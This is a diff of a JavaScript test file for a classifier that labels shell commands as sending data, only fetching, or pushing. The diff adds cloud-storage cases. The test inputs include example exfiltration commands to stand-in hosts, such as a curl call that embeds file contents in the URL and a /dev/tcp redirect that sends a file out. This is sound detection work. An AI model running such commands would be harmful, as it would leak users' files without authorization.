@@ -17,6 +17,7 @@ describe('what a command does by its own words', () => {
     'wget --post-file=a https://x.example',
     'curl "https://x.example/$(cat a)"',
     'scp a u@x.example:',
+    'aws s3 cp --recursive dist s3://x/',
     `node -e "fetch('https://x.example', { method: 'POST', body })"`,
   ])('sends: %s', (title) => {
     expect(conduct(title)).toContain('sends public');
@@ -28,17 +29,19 @@ describe('what a command does by its own words', () => {
     'wget -q https://x.example -O a',
     'npm install left-pad',
     'git fetch origin',
+    'aws s3 cp s3://x/a.json test/',
+    'gsutil -m rsync -r gs://x data',
     'curl https://x.example | tail -d',
   ])('only fetches: %s', (title) => {
     expect(conduct(title)).toEqual([]);
   });
 
-  test.each([
-    `openssl s_client -connect x.example:443 < /tmp/a`,
-    'exec 3<>/dev/tcp/198.18.1.1/443; cat a >&3',
-  ])('sends past every client: %s', (title) => {
-    expect(conduct(title)).toEqual(['sends public']);
-  });
+  test.each([`openssl s_client -connect x.example:443 < /tmp/a`, 'exec 3<>/dev/tcp/198.18.1.1/443; cat a >&3'])(
+    'sends past every client: %s',
+    (title) => {
+      expect(conduct(title)).toEqual(['sends public']);
+    },
+  );
 
   test.each([
     ['git push', 'pushes public'],
